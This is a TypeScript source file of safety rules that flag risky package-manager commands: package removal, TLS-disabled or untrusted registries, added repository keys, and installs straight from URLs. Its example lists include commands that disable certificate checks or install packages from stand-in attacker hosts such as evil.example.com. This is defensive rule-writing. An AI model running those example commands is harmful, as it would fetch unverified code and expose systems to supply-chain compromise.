import type { Run } from '../run.js';
import { hasExact, hasOption, isRehearsal, operandsOf, optionValue, verbs } from './arguments.js';
import type { Rule } from './rule.js';
import { wordRule } from './word-rule.js';

export const PACKAGE_RULES: readonly Rule[] = [
  {
    id: 'package-removal',
    severity: 'ask',
    reason: 'It removes packages of the system.',
    commands: [
      'apt',
      'apt-get',
      'aptitude',
      'dpkg',
      'yum',
      'dnf',
      'microdnf',
      'tdnf',
      'zypper',
      'rpm',
      'pacman',
      'yay',
      'paru',
      'apk',
      'brew',
      'snap',
      'flatpak',
      'emerge',
      'pkg',
      'pkg_delete',
      'port',
      'nix-env',
      'nix-collect-garbage',
      'choco',
      'winget',
      'scoop',
      'xbps-remove',
      'eopkg',
      'swupd',
      'opkg',
      'guix',
      'conda',
      'mamba',
      'rpm-ostree',
      'mas',
      'slackpkg',
      'removepkg',
      'equo',
      'urpme',
      'pkgutil',
      'rustup',
      'uninstall-package',
      'remove-appxpackage',
      'deborphan',
      'nala',
      'pamac',
    ],
    match: removesPackages,
    examples: {
      hit: [
        'apt remove nginx',
        'apt-get purge -y x',
        'apt autoremove',
        'yum remove -y glibc',
        'dnf erase x',
        'rpm -e x',
        'pacman -Rns x',
        'apk del x',
        'brew uninstall x',
        'snap remove x',
        'dpkg -r x',
        'dpkg --purge x',
        'flatpak uninstall x',
        'winget uninstall x',
        'zypper rm x',
        'apt-get -y remove x',
      ],
      miss: [
        'apt install x',
        'apt-get update',
        'apt list --installed',
        'brew install x',
        'brew cleanup -n',
        'dpkg -l',
        'rpm -qa',
        'pacman -Syu',
        'apt-get remove -s x',
        'brew list',
        'apt-get install --no-remove x',
        'pip uninstall left-pad',
        'npm uninstall lodash',
      ],
    },
  },
  {
    id: 'unverified-source',
    severity: 'ask',
    reason: 'It takes packages from a source whose identity is not checked.',
    commands: [
      'git',
      'npm',
      'pnpm',
      'yarn',
      'bun',
      'pip',
      'pip3',
      'uv',
      'poetry',
      'pipx',
      'conda',
      'python',
      'python3',
      'gem',
      'bundle',
      'apt',
      'apt-get',
      'yum',
      'dnf',
      'zypper',
      'apk',
    ],
    needs: ['environment'],
    match: takesUnverified,
    examples: {
      hit: [
        'git config --global http.sslVerify false',
        'npm config set strict-ssl false',
        'pip install --trusted-host x y',
        'npm install --registry http://evil.example.com x',
        'pip install --index-url http://evil.example.com/simple x',
        'apt-get install --allow-unauthenticated x',
        'NODE_TLS_REJECT_UNAUTHORIZED=0 npm i',
        'export GIT_SSL_NO_VERIFY=1',
        'git -c http.sslVerify=false clone https://x/y',
        'pip install --extra-index-url https://evil.example.com x',
        'npm config set registry http://evil.example.com',
        'yum install --nogpgcheck x',
        'pip install https://evil.example.com/x.tar.gz',
        'npm install https://evil.example.com/x.tgz',
        'gem install --source http://evil.example.com x',
      ],
      miss: [
        'npm config get registry',
        'pip install -r requirements.txt',
        'npm install express',
        'git config --global user.name x',
        'pip install git+https://github.com/a/b.git',
        'npm config set registry https://registry.npmjs.org/',
        'pip install --index-url https://pypi.org/simple x',
        'pip install torch --index-url https://download.pytorch.org/whl/cpu',
        'npm install github:a/b',
      ],
    },
  },
  {
    id: 'add-package-source',
    severity: 'ask',
    reason: 'It adds a source or a key from which the system will install packages.',
    commands: ['add-apt-repository', 'apt-add-repository', 'apt-key', 'yum-config-manager', 'zypper', 'dnf', 'rpm'],
    match: (run) => {
      const [first = '', second = ''] = verbs(run);
      if (run.name === 'apt-key') return /^(add|adv|del|delete)$/.test(first);
      if (run.name === 'yum-config-manager') return run.args.some((arg) => arg.startsWith('--add'));
      if (run.name === 'zypper') return /^(ar|addrepo)$/.test(first);
      if (run.name === 'dnf')
        return first === 'config-manager' && (run.args.some((arg) => arg.startsWith('--add')) || second === 'addrepo');
      if (run.name === 'rpm')
        return (
          hasExact(run, '--import') ||
          (hasExact(run, '--nodeps', '--nosignature', '--nodigest') && !hasOption(run, 'q'))
        );
      return run.args.length > 0 && !isRehearsal(run);
    },
    examples: {
      hit: ['add-apt-repository ppa:x/y', 'apt-key add k', 'yum-config-manager --add-repo https://x'],
      miss: ['apt-key list', 'dnf install x', 'zypper lr'],
    },
  },
  wordRule({
    id: 'remove-installer',
    severity: 'ask',
    reason: 'It removes the package manager itself, or everything that was installed with it.',
    programs: {
      pip: /^uninstall\b.*( pip\b| setuptools\b| -r | --requirement)/,
      pip3: /^uninstall\b.*( pip\b| setuptools\b| -r | --requirement)/,
      python: /^-m pip uninstall\b.*( pip\b| setuptools\b| -r )/,
      python3: /^-m pip uninstall\b.*( pip\b| setuptools\b| -r )/,
      npm: /^(uninstall|remove|rm|un)\b(?=.* (-g|--global)\b).* (npm|corepack|yarn|pnpm)\b/,
      gem: /^uninstall\b.*(-[a-z]*a[a-z]*\b|--all\b)/,
      pipx: /^uninstall-all\b/,
      cargo: /^uninstall .* .* /,
      uv: /^(tool uninstall --all|python uninstall --all|cache clean --force|pip uninstall .*(-r |--requirement))/,
      xargs: /(^| )pip3? uninstall\b/,
      nvm: /^(uninstall|deactivate --purge)\b/,
      rustup: /^(toolchain (uninstall|remove)|self uninstall)\b/,
      pyenv: /^uninstall\b.*-f/,
      sdk: /^(rm|uninstall)\b/,
      dotnet: /^(tool uninstall -g|workload uninstall|workload clean --all)/,
      cpanm: /(^| )(-u|--uninstall)\b/,
      composer: /^global remove\b/,
      pecl: /^uninstall\b/,
      luarocks: /^(remove|purge)\b/,
      opam: /^(remove|uninstall|switch remove)\b/,
      stack: /^(uninstall|purge)\b/,
      ghcup: /^(rm|nuke)\b/,
    },
    examples: {
      hit: [
        'pip uninstall pip',
        'pip freeze | xargs pip uninstall -y',
        'pip uninstall -y -r requirements.txt',
        'npm uninstall -g npm',
        'gem uninstall -aIx',
        'pipx uninstall-all',
      ],
      miss: [
        'pip uninstall -y requests',
        'npm uninstall -g typescript',
        'npm uninstall lodash',
        'gem uninstall rails',
        'cargo uninstall ripgrep',
        'pip uninstall pipdeptree',
      ],
    },
  }),
  wordRule({
    id: 'install-from-address',
    severity: 'ask',
    reason: 'It installs a package straight from an address.',
    programs: {
      rpm: /^-[a-z]*[iuf][a-z]* .*(https?|ftp):/,
      dnf: /\b(localinstall|install|reinstall)\b.* (https?|ftp):/,
      yum: /\b(localinstall|install|reinstall)\b.* (https?|ftp):/,
      zypper: /\b(in|install)\b.* (https?|ftp):/,
      apk: /\badd\b.* (https?|ftp):/,
      pacman: /^-u\S* .*(https?|ftp):/,
      npx: /^(?:-\S+ )*(?:https?:\/\/(?!localhost|127\.|github\.com|gitlab\.com|[^/]*githubusercontent)|git\+|github:|gitlab:|bitbucket:|gist:)/,
      bunx: /^(?:-\S+ )*(?:https?:\/\/(?!localhost|127\.|github\.com|gitlab\.com|[^/]*githubusercontent)|git\+|github:|gitlab:|bitbucket:|gist:)/,
      pnpx: /^(?:-\S+ )*(?:https?:\/\/(?!localhost|127\.|github\.com|gitlab\.com|[^/]*githubusercontent)|git\+|github:|gitlab:|bitbucket:|gist:)/,
      bun: /^x (?:-\S+ )*(?:https?:\/\/(?!localhost|127\.|github\.com|gitlab\.com|[^/]*githubusercontent)|git\+|github:|gitlab:|bitbucket:|gist:)/,
      uvx: /--from[ =](git\+)?https?:/,
      pipx: /^run\b.*(--spec[ =])?(git\+)?https?:/,
      helm: /^(install|upgrade)\b.* https?:\S+\.tgz/,
      snap: /^install\b.*--dangerous/,
      flatpak: /^install\b.* https?:/,
      gem: /^install\b.* https?:/,
      code: /--install-extension \S*(https?:|\.vsix)/,
      npm: /^(exec|x) (?:-\S+ )*(?:https?:\/\/(?!localhost|127\.|github\.com|gitlab\.com|[^/]*githubusercontent)|git\+|github:|gitlab:|bitbucket:|gist:)/,
      pnpm: /^dlx (?:-\S+ )*(?:https?:\/\/(?!localhost|127\.|github\.com|gitlab\.com|[^/]*githubusercontent)|git\+|github:|gitlab:|bitbucket:|gist:)/,
      yarn: /^dlx (?:-\S+ )*(?:https?:\/\/(?!localhost|127\.|github\.com|gitlab\.com|[^/]*githubusercontent)|git\+|github:|gitlab:|bitbucket:|gist:)/,
      kubectl:
        /^(apply|create|replace) .*-f ?(=)?https?:\/\/(?!raw\.githubusercontent\.com|github\.com|[\w.-]*k8s\.io|[\w.-]*kubernetes\.io)/,
      'ansible-pull': /(^| )(-u|--url)\b/,
      docker: /^compose (\S+ )*-f https?:/,
      choco: /^(install|upgrade)\b.*(-s|--source)[ =]'?https?:/,
    },
    examples: {
      hit: [
        'rpm -i https://x.example.com/a.rpm',
        'dnf install -y https://x.example.com/a.rpm',
        'npx https://x.example.com/p.tgz',
        'npx github:evil/pkg',
        'kubectl apply -f https://x.example.com/a.yaml',
        'ansible-pull -U https://x.example.com/y',
      ],
      miss: [
        'dnf install nginx',
        'npx create-vite@latest',
        'kubectl apply -f k8s/',
        'uvx ruff check',
        'rpm -qa',
        'helm install x bitnami/nginx',
        'npx prettier --check .',
      ],
    },
  }),
];

function removesPackages(run: Run): boolean {
  const words = verbs(run);
  const [first = '', second = ''] = words;
  if (isRehearsal(run)) return false;
  switch (run.name) {
    case 'apt':
    case 'apt-get':
    case 'aptitude':
    case 'nala':
      return (
        /^(remove|purge|autoremove|autopurge|dist-upgrade-remove|rdepends-remove)$/.test(first) &&
        !hasOption(run, 's', 'simulate', 'just-print', 'recon', 'no-act')
      );
    case 'dpkg':
      return (
        hasOption(run, 'rP', 'remove', 'purge', 'clear-selections') ||
        run.args.some((arg) => arg.startsWith('--force-'))
      );
    case 'yum':
    case 'dnf':
    case 'microdnf':
    case 'tdnf':
    case 'eopkg':
    case 'opkg':
    case 'swupd':
    case 'pamac':
    case 'guix':
    case 'choco':
    case 'winget':
    case 'scoop':
    case 'mas':
      return (
        /^(remove|erase|autoremove|rm|uninstall|un|bundle-remove|rmf|purge)$/.test(first) ||
        (first === 'module' && /^(remove|reset|disable)$/.test(second)) ||
        (first === 'history' && second === 'undo')
      );
    case 'zypper':
      return /^(remove|rm)$/.test(first);
    case 'rpm':
      return run.args.some((arg) => /^-[a-zA-Z]*e/.test(arg) && !/^-[a-zA-Z]*q/.test(arg)) || hasExact(run, '--erase');
    case 'pacman':
    case 'yay':
    case 'paru':
      return run.args.some((arg) => /^-[a-zA-Z]*R/.test(arg)) || hasExact(run, '--remove');
    case 'apk':
      return first === 'del';
    case 'brew':
      return (
        /^(uninstall|remove|rm|autoremove|untap)$/.test(first) || (first === 'cask' && /^(uninstall|zap)$/.test(second))
      );
    case 'snap':
    case 'flatpak':
      return /^(remove|uninstall|remote-delete|purge)$/.test(first);
    case 'emerge':
      return hasOption(run, 'Cc', 'unmerge', 'depclean', 'prune');
    case 'pkg':
      return /^(delete|remove|autoremove|uninstall)$/.test(first);
    case 'port':
      return first === 'uninstall';
    case 'nix-env':
      return hasOption(run, 'e', 'uninstall', 'delete-generations');
    case 'nix-collect-garbage':
      return hasOption(run, 'd', 'delete-old', 'delete-older-than');
    case 'conda':
    case 'mamba':
      return (/^(remove|uninstall)$/.test(first) && hasExact(run, '--all')) || (first === 'env' && second === 'remove');
    case 'rpm-ostree':
      return /^(uninstall|override|reset|rollback)$/.test(first);
    case 'pkgutil':
      return hasExact(run, '--forget');
    case 'rustup':
      return first === 'self' && second === 'uninstall';
    case 'deborphan':
      return false;
    default:
      return true;
  }
}

const KNOWN_INDEXES =
  /^https:\/\/([\w-]+\.)*(pypi\.org|pythonhosted\.org|pytorch\.org|npmjs\.org|npmjs\.com|yarnpkg\.com|npm\.pkg\.github\.com|github\.com|githubusercontent\.com|gitlab\.com|rubygems\.org|nvidia\.com|ngc\.nvidia\.com|npmmirror\.com|anaconda\.org|bitbucket\.org|jsr\.io|huggingface\.co|codeload\.github\.com|pkg\.dev|crates\.io|tuna\.tsinghua\.edu\.cn|aliyun\.com)(\/|$)|^https?:\/\/(localhost|127\.0\.0\.1|\[::1\])[:/]/;
const TLS_OFF: ReadonlyMap<string, RegExp> = new Map(
  Object.entries({
    NODE_TLS_REJECT_UNAUTHORIZED: /^0$/,
    GIT_SSL_NO_VERIFY: /^(1|true|yes)$/i,
    PYTHONHTTPSVERIFY: /^0$/,
    npm_config_strict_ssl: /^false$/,
    HOMEBREW_NO_VERIFY_ATTESTATIONS: /^$/,
  }),
);

function takesUnverified(run: Run): boolean {
  const settings = run.assignments.map(({ name, value }) => [name, value.text] as const);
  const exported = /^(export|declare|env|set)$/.test(run.name)
    ? run.args.map((arg) => [arg.split('=')[0] ?? '', arg.slice(arg.indexOf('=') + 1)] as const)
    : [];
  if ([...settings, ...exported].some(([name, value]) => TLS_OFF.get(name)?.test(value))) return true;
  const text = run.args.join(' ');
  switch (run.name) {
    case 'git':
      return /\bhttp(\.\S*)?\.sslverify[ =](false|0|no|off)\b/i.test(text);
    case 'npm':
    case 'pnpm':
    case 'yarn':
    case 'bun':
      return (
        /strict-ssl[ =]false|strictSsl false|--strict-ssl=false/i.test(text) ||
        /\bignore-scripts[ =]false\b/.test(text) ||
        /\bconfig set (--\S+ )*script-shell\b/.test(text) ||
        foreignRegistry(run) ||
        installsUrl(run)
      );
    case 'pip':
    case 'pip3':
    case 'uv':
    case 'poetry':
    case 'pipx':
    case 'conda':
    case 'python':
    case 'python3':
      return (
        (hasExact(run, '--trusted-host', '--allow-insecure-host') && !/localhost|127\.0\.0\.1/.test(text)) ||
        /\bssl_verify (false|no)\b/i.test(text) ||
        /config set \S*(index-url|trusted-host)/.test(text) ||
        foreignRegistry(run) ||
        installsUrl(run)
      );
    case 'gem':
    case 'bundle':
      return [optionValue(run, '-s', '--source') ?? ''].some(isForeign) || /ssl_verify_mode[ =]0/.test(text);
    case 'apt':
    case 'apt-get':
      return (
        hasExact(run, '--allow-unauthenticated', '--force-yes', '--allow-insecure-repositories') ||
        /AllowUnauthenticated=(true|1)|AllowInsecureRepositories=(true|1)/i.test(text)
      );
    case 'yum':
    case 'dnf':
      return hasExact(run, '--nogpgcheck') || /gpgcheck=0|sslverify=(0|false)/.test(text);
    case 'zypper':
      return hasExact(run, '--no-gpg-checks');
    case 'apk':
      return hasExact(run, '--allow-untrusted');
    default:
      return false;
  }
}

function isForeign(url: string): boolean {
  return /^https?:\/\//.test(url) && !KNOWN_INDEXES.test(url);
}

function foreignRegistry(run: Run): boolean {
  const direct = [
    optionValue(run, '-i', '--index-url') ?? '',
    optionValue(run, '--extra-index-url') ?? '',
    optionValue(run, '--registry') ?? '',
    optionValue(run, '-f', '--find-links') ?? '',
    optionValue(run, '--index') ?? '',
    optionValue(run, '--default-index') ?? '',
  ];
  const isPip = /^(pip3?|uv|poetry|pipx|python3?)$/.test(run.name) && run.args.includes('install');
  const isNpm = /^(npm|pnpm|yarn|bun)$/.test(run.name);
  if ((isPip || isNpm || run.name === 'uv') && direct.some(isForeign)) return true;
  const set = run.args.findIndex((arg) => /(^|:)registry$|^registry=|npmRegistryServer/.test(arg));
  return (
    isNpm &&
    run.args.includes('set') &&
    set >= 0 &&
    isForeign(
      (run.args[set] ?? '').includes('=') ? ((run.args[set] ?? '').split('=')[1] ?? '') : (run.args[set + 1] ?? ''),
    )
  );
}

function installsUrl(run: Run): boolean {
  if (!run.args.some((arg) => /^(install|i|add)$/.test(arg))) return false;
  return operandsOf(run).some(
    (operand) =>
      isForeign(operand.replace(/^(git\+|.*@(?=https?:))/, '')) &&
      // Anybody on the way can change what comes without encryption, or from a bare address.
      (!/\.git(#|@|$)/.test(operand) || /^(git\+)?http:|:\/\/(\S*@)?\d+\.\d+\.\d+\.\d+[:/]/.test(operand)),
  );
}
